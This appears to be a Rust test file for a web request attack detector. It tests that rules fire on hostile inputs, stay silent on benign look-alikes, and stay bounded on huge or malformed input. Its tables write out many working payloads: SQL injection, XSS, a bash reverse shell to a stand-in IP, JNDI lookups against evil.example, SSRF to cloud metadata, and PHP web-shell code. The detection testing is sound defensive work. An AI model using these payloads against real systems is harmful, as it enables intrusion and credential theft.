//! The detector on whole values and whole requests: one table of inputs that must
//! trigger each rule and near misses that must not, every request location, and hostile
//! input that must stay bounded.

use std::time::{Duration, Instant};

use palisade_core::{Body, Header, QueryParam, Request, Trace, TraceMeta, TraceSource};
use palisade_detect::{AttackClass, Confidence, DetectConfig, Detector, Location, LocationSection, RULES};

fn detector() -> Detector {
    Detector::new(&DetectConfig::default()).expect("default settings are valid")
}

fn rules_for(detector: &Detector, name: &str, value: &str) -> Vec<&'static str> {
    detector.inspect_value(&Location::query(name), value).iter().map(|f| f.rule_id).collect()
}

/// (rule id, parameter name, value): each value must produce a finding of that rule.
const MUST_TRIGGER: &[(&str, &str, &str)] = &[
    ("sqli.union", "id", "-1 UNION ALL SELECT username, password FROM users--"),
    ("sqli.stacked", "id", "1; DROP TABLE users--"),
    ("sqli.tautology", "user", "admin' OR '1'='1"),
    ("sqli.function", "id", "1 AND SLEEP(5)"),
    ("sqli.clause", "sort", "1' ORDER BY 10--"),
    ("sqli.comment_truncation", "user", "admin'--"),
    ("sqli.statement", "q", "SELECT name FROM users WHERE id = 1"),
    ("sqli.fragment", "sort", "AND deleted = 0)"),
    ("xss.script_tag", "q", "<script>alert(document.cookie)</script>"),
    ("xss.event_handler", "q", "<img src=x onerror=alert(1)>"),
    ("xss.javascript_url", "next", "javascript:alert(1)"),
    ("xss.dangerous_tag", "q", "<iframe src=//evil.example></iframe>"),
    ("xss.style_script", "q", "<div style=\"background:url(javascript:alert(1))\">"),
    ("xss.js_breakout", "q", "';alert(1);//"),
    ("xss.script_call", "q", "prompt(1)"),
    ("xss.dom_access", "q", "new Image().src='//x/?'+document.cookie"),
    ("path.traversal", "file", "../../../../var/www/index.php"),
    ("lfi.sensitive_file", "file", "/etc/passwd"),
    ("lfi.wrapper", "page", "php://filter/convert.base64-encode/resource=config"),
    ("rfi.url", "page", "http://evil.example/shell.txt?"),
    ("cmd.separator", "host", "127.0.0.1; cat /etc/shadow"),
    ("cmd.substitution", "name", "$(whoami)"),
    ("cmd.leading", "cmd", "nc -lvp 4444"),
    ("cmd.reverse_shell", "q", "bash -i >& /dev/tcp/203.0.113.9/8080 0>&1"),
    ("cmd.glob_path", "q", "/???/??t /???/??ss??"),
    ("cmd.powershell", "q", "powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
    ("cmd.ssi", "q", "<!--#exec cmd=\"id\"-->"),
    ("crlf.mail_command", "subject", "hi\r\nRCPT TO: victim@example.com"),
    ("crlf.line_break", "comment", "first\nrole=admin"),
    ("crlf.request_line", "next", "GET http://internal.example/ HTTP/1.1"),
    ("ssrf.metadata", "url", "http://169.254.169.254/latest/meta-data/iam/"),
    ("ssrf.loopback", "url", "http://0x7f000001:8080/admin"),
    ("ssrf.private_address", "url", "http://192.168.0.10/"),
    ("ssrf.scheme", "url", "gopher://127.0.0.1:25/_HELO"),
    ("xxe.external_entity", "xml", "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>"),
    ("xxe.external_dtd", "xml", "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>"),
    ("xxe.entity_declaration", "xml", "<!DOCTYPE a [<!ENTITY x \"xx\"><!ENTITY y \"&x;&x;\">]><a>&y;</a>"),
    ("xxe.xinclude", "xml", "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></a>"),
    ("xxe.entity_reference", "q", "&xxe;"),
    ("nosql.operator", "filter", "{\"password\": {\"$ne\": null}}"),
    ("nosql.js_injection", "user", "'; return true; var a='"),
    ("ssti.expression", "name", "{{7*7}}"),
    ("ssti.object_access", "name", "{{ self.__init__.__globals__ }}"),
    ("ssti.statement", "name", "{% debug %}"),
    ("jndi.lookup", "q", "${${lower:j}ndi:ldap://evil.example/a}"),
    ("jndi.exfiltration", "q", "${env:AWS_SECRET_ACCESS_KEY}"),
    ("ldap.filter_injection", "user", "*)(uid=*))(|(uid=*"),
    ("crlf.header_injection", "lang", "en%0d%0aSet-Cookie:%20session=attacker"),
    ("proto.key", "q", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("deser.java_stream", "state", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="),
    ("deser.java_class", "q", "java.lang.ProcessBuilder"),
    ("deser.php_object", "cart", "O:4:\"Cart\":1:{s:5:\"items\";a:0:{}}"),
    ("deser.dotnet", "state", "AAEAAAD/////AQAAAAAAAAAEAQAAAA"),
    ("deser.python", "data", "gASVJgAAAAAAAACMAm9zlIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("deser.node", "profile", "{\"a\":\"_$$ND_FUNC$$_function(){}()\"}"),
    ("code.php_tag", "q", "<?php echo shell_exec($_GET['c']); ?>"),
    ("code.php_function", "q", "file_put_contents('x.php', base64_decode('PD8='))"),
    ("code.php_variable", "q", "$_SERVER['HTTP_HOST']"),
    ("code.node", "q", "require('child_process').execSync('id')"),
    ("code.python", "q", "__import__('os').popen('id').read()"),
    ("code.ruby", "q", "IO.popen('id').read"),
    ("code.perl", "q", "@{[system 'id']}"),
    ("code.dos_loop", "q", "while(true){}"),
    ("graphql.introspection", "query", "{ __schema { queryType { name } } }"),
];

/// (class, parameter name, value): benign values that look like attacks to a naive
/// matcher and must produce no finding at all.
const MUST_NOT_TRIGGER: &[(&str, &str, &str)] = &[
    ("sqli", "name", "O'Brien"),
    ("sqli", "plan", "select a plan"),
    ("sqli", "delivery", "1-2 business days"),
    ("sqli", "q", "Tom and Jerry or Garfield"),
    ("sqli", "q", "It's 5 o'clock"),
    ("xss", "bio", "<b>bold</b> and <i>italic</i>"),
    ("xss", "q", "5 < 6 > 4"),
    ("xss", "q", "JavaScript: The Good Parts"),
    ("path_traversal", "src", "../images/logo.png"),
    ("lfi", "q", "etc. and passwords"),
    ("rfi", "url", "https://example.com/docs/index.html"),
    ("command_injection", "q", "fish & chips; cat lovers welcome"),
    ("command_injection", "q", "ls 300 lexus"),
    ("ssrf", "url", "https://example.com"),
    ("ssrf", "url", "http://8.8.8.8/dns"),
    ("ssti", "template", "${price}"),
    ("ssti", "greeting", "Hello {{name}}"),
    ("jndi", "q", "${user.home}"),
    ("nosql", "q", "$5 off"),
    ("ldap", "phone", "(555) 123-4567"),
    ("crlf", "comment", "first line\nsecond line"),
    ("prototype_pollution", "q", "the prototype of the constructor"),
    ("deserialization", "q", "a runtime error occurred"),
    ("code_injection", "q", "the system (beta) is down"),
    ("graphql", "query", "{ user(id: 1) { __typename name } }"),
    ("any", "email", "jane.doe+news@example.com"),
    ("any", "date", "2024-05-01T10:00:00Z"),
    ("any", "price", "$1,299.99"),
    ("any", "token", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"),
    ("any", "uuid", "550e8400-e29b-41d4-a716-446655440000"),
];

#[test]
fn every_rule_has_a_triggering_case() {
    let covered: std::collections::HashSet<&str> = MUST_TRIGGER.iter().map(|(rule, _, _)| *rule).collect();
    for rule in RULES {
        let header_only = rule.id.starts_with("scanner.");
        assert!(header_only || covered.contains(rule.id), "no test case for rule {}", rule.id);
    }
}

#[test]
fn values_trigger_their_rules() {
    let detector = detector();
    for (rule, name, value) in MUST_TRIGGER {
        let found = rules_for(&detector, name, value);
        assert!(found.contains(rule), "{value:?} in {name}: expected {rule}, got {found:?}");
    }
}

#[test]
fn near_misses_stay_clean() {
    let detector = detector();
    for (class, name, value) in MUST_NOT_TRIGGER {
        let found = rules_for(&detector, name, value);
        assert!(found.is_empty(), "{class} near miss {value:?} in {name}: got {found:?}");
    }
}

#[test]
fn evidence_is_short_and_escaped() {
    let detector = detector();
    let value = format!("{}\r\n' OR 1=1 --{}", "a".repeat(300), "b".repeat(300));
    let findings = detector.inspect_value(&Location::query("q"), &value);
    assert!(!findings.is_empty());
    for finding in &findings {
        assert!(finding.evidence.chars().count() <= palisade_detect::MAX_EVIDENCE_CHARS);
        assert!(!finding.evidence.contains('\r'), "{}", finding.evidence);
        assert!(!finding.evidence.contains('\n'), "{}", finding.evidence);
    }
}

#[test]
fn min_confidence_and_disabled_rules_apply() {
    let config = DetectConfig {
        min_confidence: Confidence::High,
        disabled_rules: vec!["sqli.union".into()],
        ..DetectConfig::default()
    };
    let detector = Detector::new(&config).unwrap();
    assert!(detector.inspect_value(&Location::query("q"), "1 UNION SELECT 1").is_empty());
    // A comment truncation is medium confidence.
    assert!(detector.inspect_value(&Location::query("q"), "admin'--").is_empty());
}

#[test]
fn base64_wrapped_payloads_are_read() {
    use base64::Engine;
    let detector = detector();
    let encode = |text: &str| base64::engine::general_purpose::STANDARD_NO_PAD.encode(text);

    let findings = detector.inspect_value(&Location::query("q"), &encode("-1 UNION SELECT password FROM users--"));
    assert_eq!(findings.len(), 1, "{findings:?}");
    assert_eq!(findings[0].rule_id, "sqli.union");
    // Inside Base64 a finding is at most medium confidence, and the evidence is decoded.
    assert_eq!(findings[0].confidence, Confidence::Medium);
    assert!(findings[0].evidence.starts_with("base64: "), "{}", findings[0].evidence);
    assert!(findings[0].evidence.contains("UNION SELECT"), "{}", findings[0].evidence);

    let findings = detector.inspect_value(&Location::query("q"), &encode("<script>alert(1)</script>"));
    assert_eq!(findings.iter().map(|f| f.class).collect::<Vec<_>>(), [AttackClass::Xss]);

    // A JWT header, an encoded sentence and an encoded binary digest are no attacks.
    for value in [
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
        &encode("Meet me at the station at 5 o'clock, bring the tickets"),
        "q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQ",
    ] {
        let findings = detector.inspect_value(&Location::query("q"), value);
        assert!(findings.is_empty(), "{value}: {findings:?}");
    }
}

fn trace(method: &str, path: &str, query: &[(&str, &str)], headers: &[(&str, &str)], body: &[u8]) -> Trace {
    let headers: Vec<Header> = headers.iter().map(|(n, v)| Header::new(*n, *v)).collect();
    let content_type = palisade_core::trace::header_value(&headers, "content-type").map(str::to_string);
    Trace {
        request: Request {
            method: method.into(),
            scheme: "https".into(),
            host: "api.example.com".into(),
            path: path.into(),
            query: query.iter().map(|(n, v)| QueryParam { name: n.to_string(), value: v.to_string() }).collect(),
            headers,
            content_type,
            body: Body { bytes: body.to_vec(), truncated: false },
        },
        response: None,
        meta: TraceMeta {
            start_ms: 0,
            duration_us: None,
            client: None,
            server: None,
            source: TraceSource::Native,
            environment: None,
            route: None,
        },
        agent: None,
    }
}

fn found(detector: &Detector, trace: &Trace) -> Vec<(AttackClass, LocationSection, String)> {
    detector.inspect(trace).findings.into_iter().map(|f| (f.class, f.location.section, f.location.name)).collect()
}

#[test]
fn xml_attribute_names_are_no_gadget_classes() {
    let detector = detector();
    let xml = [("Content-Type", "application/xml")];
    let classes = |body: &[u8]| -> Vec<AttackClass> {
        found(&detector, &trace("POST", "/", &[], &xml, body)).into_iter().map(|(class, _, _)| class).collect()
    };

    let element = classes(b"<java.lang.ProcessBuilder><command>id</command></java.lang.ProcessBuilder>");
    assert!(element.contains(&AttackClass::Deserialization), "{element:?}");
    let value = classes(b"<a class=\"java.lang.ProcessBuilder\">x</a>");
    assert!(value.contains(&AttackClass::Deserialization), "{value:?}");
    let attribute = classes(b"<xml><element java.lang.Runtime=\"attribute_value\">element_value</element></xml>");
    assert!(!attribute.contains(&AttackClass::Deserialization), "{attribute:?}");
}

#[test]
fn every_request_location_is_inspected() {
    use AttackClass::*;
    use LocationSection::*;
    let cases: Vec<(Trace, (AttackClass, LocationSection, &str))> = vec![
        (trace("GET", "/files/..%2f..%2f..%2fetc/passwd", &[], &[], b""), (PathTraversal, Path, "")),
        (trace("GET", "/users/1%20union%20select%201,2", &[], &[], b""), (Sqli, Path, "1%20union%20select%201,2")),
        (trace("GET", "/", &[("q", "<script>alert(1)</script>")], &[], b""), (Xss, Query, "q")),
        (trace("GET", "/", &[("__proto__[admin]", "1")], &[], b""), (PrototypePollution, QueryKey, "__proto__[admin]")),
        (trace("GET", "/", &[], &[("User-Agent", "sqlmap/1.8")], b""), (Scanner, Header, "user-agent")),
        (trace("GET", "/", &[], &[("X-Api-Version", "${jndi:ldap://x/a}")], b""), (Jndi, Header, "x-api-version")),
        (trace("GET", "/", &[], &[("Accept", "${jndi:ldap://x/a}")], b""), (Jndi, Header, "accept")),
        (trace("GET", "/", &[], &[("Cookie", "a=1; session=' or 1=1--")], b""), (Sqli, Cookie, "session")),
        (
            trace("POST", "/", &[], &[("Content-Type", "application/json")], br#"{"user":{"name":"x' or 1=1--"}}"#),
            (Sqli, Body, "user.name"),
        ),
        (
            trace("POST", "/", &[], &[("Content-Type", "application/json")], br#"{"filter":{"$where":"sleep(1000)"}}"#),
            (NosqlInjection, BodyKey, "filter.$where"),
        ),
        (
            trace("POST", "/", &[], &[("Content-Type", "application/x-www-form-urlencoded")], b"cmd=%3Bcat+%2Fetc%2Fpasswd"),
            (CommandInjection, Body, "cmd"),
        ),
        (
            trace(
                "POST",
                "/",
                &[],
                &[("Content-Type", "multipart/form-data; boundary=B")],
                b"--B\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n<svg onload=alert(1)>\r\n--B--\r\n",
            ),
            (Xss, Body, "bio"),
        ),
        (
            trace(
                "POST",
                "/",
                &[],
                &[("Content-Type", "application/xml")],
                b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            ),
            (Xxe, Body, ""),
        ),
        (
            trace("POST", "/", &[], &[("Content-Type", "text/xml")], b"<order><note>{{7*7}}</note></order>"),
            (Ssti, Body, "order.note"),
        ),
        (
            trace(
                "POST",
                "/graphql",
                &[],
                &[("Content-Type", "application/json")],
                br#"{"query":"query { user(name: \"x' or 1=1--\") { id } }"}"#,
            ),
            (Sqli, Graphql, "name"),
        ),
        (
            trace(
                "POST",
                "/graphql",
                &[],
                &[("Content-Type", "application/json")],
                br#"{"query":"query Q($u: String) { user(url: $u) { id } }","variables":{"u":"http://169.254.169.254/"}}"#,
            ),
            (Ssrf, Graphql, "variables.u"),
        ),
        (
            trace(
                "POST",
                "/graphql",
                &[],
                &[("Content-Type", "application/json")],
                br#"{"query":"query IntrospectionQuery { __schema { types { name } } }"}"#,
            ),
            (GraphqlIntrospection, Graphql, "query"),
        ),
        (
            trace("GET", "/graphql", &[("query", "{__type(name: \"User\") { fields { name } }}")], &[], b""),
            (GraphqlIntrospection, Graphql, "query"),
        ),
    ];
    let detector = detector();
    for (trace, (class, section, name)) in cases {
        let found = found(&detector, &trace);
        assert!(
            found.iter().any(|(c, s, n)| *c == class && *s == section && n == name),
            "{} {}: expected {class:?} at {section:?} {name:?}, got {found:?}",
            trace.request.method,
            trace.request.path
        );
    }
}

#[test]
fn benign_request_has_no_findings() {
    let body = br#"{"name":"O'Brien","comment":"Great product, <b>love it</b>!","tags":["a","b"],"price":12.5,"website":"https://example.com"}"#;
    let trace = trace(
        "POST",
        "/api/v1/users/42/reviews",
        &[("sort", "-created_at"), ("page", "2")],
        &[
            (
                "User-Agent",
                "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            ),
            ("Accept", "application/json, text/plain, */*"),
            ("Content-Type", "application/json"),
            ("Cookie", "session=abc123; theme=dark"),
            ("Referer", "https://shop.example.com/products/42?ref=home"),
        ],
        body,
    );
    let inspection = detector().inspect(&trace);
    assert!(inspection.findings.is_empty(), "{:?}", inspection.findings);
    assert!(!inspection.truncated);
    assert!(inspection.locations_checked > 10);
}

#[test]
fn location_limit_truncates_and_counts() {
    let pairs: Vec<(String, String)> = (0..100_000).map(|i| (format!("p{i}"), "v".to_string())).collect();
    let query: Vec<(&str, &str)> = pairs.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
    let start = Instant::now();
    let inspection = detector().inspect(&trace("GET", "/", &query, &[], b""));
    assert!(inspection.truncated);
    assert_eq!(inspection.locations_checked, DetectConfig::default().limits.max_locations);
    assert!(inspection.skipped.locations > 0);
    assert!(start.elapsed() < Duration::from_secs(10));
}

#[test]
fn long_value_is_checked_at_both_ends() {
    let padded = format!("{}' OR '1'='1", "A".repeat(200_000));
    let inspection = detector().inspect(&trace("GET", "/", &[("q", &padded)], &[], b""));
    assert!(inspection.findings.iter().any(|f| f.class == AttackClass::Sqli), "{:?}", inspection.findings);
    assert!(inspection.truncated);
    assert_eq!(inspection.skipped.values_cut, 1);
}

#[test]
fn request_byte_limit_truncates() {
    let big = "x".repeat(60_000);
    let query: Vec<(String, String)> = (0..40).map(|i| (format!("p{i}"), big.clone())).collect();
    let query: Vec<(&str, &str)> = query.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
    let inspection = detector().inspect(&trace("GET", "/", &query, &[], b""));
    assert!(inspection.truncated);
    assert!(inspection.skipped.bytes > 0);
    assert!(inspection.bytes_examined <= DetectConfig::default().limits.max_request_bytes);
}

#[test]
fn hostile_encodings_are_bounded() {
    let detector = detector();
    let many_rounds = format!("%{}27", "25".repeat(50));
    let overlong = "%c0%ae%c0%ae%c0%af".repeat(4) + "etc/passwd";
    let nul_split = "sel%00ect * fr%00om users";
    let regex_like = "(((((((((((a*)*)*)*)*)*)*)*)*)*)*)*$".repeat(200);
    let cases = [
        many_rounds.as_str(),
        overlong.as_str(),
        nul_split,
        regex_like.as_str(),
        "%",
        "%%%%",
        "&#",
        "&#x;",
        "\\u",
        "${",
        "<",
        "'",
    ];
    for value in cases {
        let start = Instant::now();
        let _ = detector.inspect_value(&Location::query("q"), value);
        assert!(start.elapsed() < Duration::from_secs(2), "slow on {:?}", &value[..value.len().min(40)]);
    }
    // Overlong UTF-8 dots and slashes decode to a traversal.
    let found = detector.inspect_value(&Location::query("file"), &overlong);
    assert!(found.iter().any(|f| f.class == AttackClass::PathTraversal || f.class == AttackClass::Lfi), "{found:?}");
}

#[test]
fn malformed_bodies_do_not_panic() {
    let bodies: [(&str, &[u8]); 6] = [
        ("application/json", b"{\"a\": [1, 2, {\"b\": "),
        ("application/json", &[0xff, 0xfe, 0x00, 0x7b]),
        ("application/xml", b"<a><b attr=\"x></a"),
        ("multipart/form-data; boundary=", b"--\r\n\r\n--"),
        ("application/x-www-form-urlencoded", b"&&=&%%%=%zz"),
        ("application/graphql", b"query { a(b: \"unterminated"),
    ];
    let detector = detector();
    for (content_type, body) in bodies {
        let _ = detector.inspect(&trace("POST", "/", &[], &[("Content-Type", content_type)], body));
    }
}

#[test]
fn deep_json_is_bounded() {
    let nested = format!("{}\"x' or 1=1--\"{}", "[".repeat(50_000), "]".repeat(50_000));
    let inspection =
        detector().inspect(&trace("POST", "/", &[], &[("Content-Type", "application/json")], nested.as_bytes()));
    assert!(inspection.truncated || inspection.skipped.bodies_malformed > 0);
}

/// Inspects a megabyte of attack-looking text in every location class. Run with
/// `--ignored` to see the time per request.
#[test]
#[ignore]
fn stress_megabyte_payloads() {
    let detector = detector();
    let chunk = "<svg onload=alert(1)>' OR 1=1-- ${jndi:ldap://x} ../../etc/passwd ; cat /etc/passwd {{7*7}} ";
    let big = chunk.repeat(1024 * 1024 / chunk.len());
    let body = format!("{{\"a\":{}}}", serde_json::to_string(&big).unwrap());
    let trace = trace(
        "POST",
        "/",
        &[("q", &big)],
        &[("Content-Type", "application/json"), ("User-Agent", &big)],
        body.as_bytes(),
    );
    let start = Instant::now();
    let inspection = detector.inspect(&trace);
    println!(
        "{:?} for {} bytes examined, truncated {}",
        start.elapsed(),
        inspection.bytes_examined,
        inspection.truncated
    );
    assert!(start.elapsed() < Duration::from_secs(5));
}
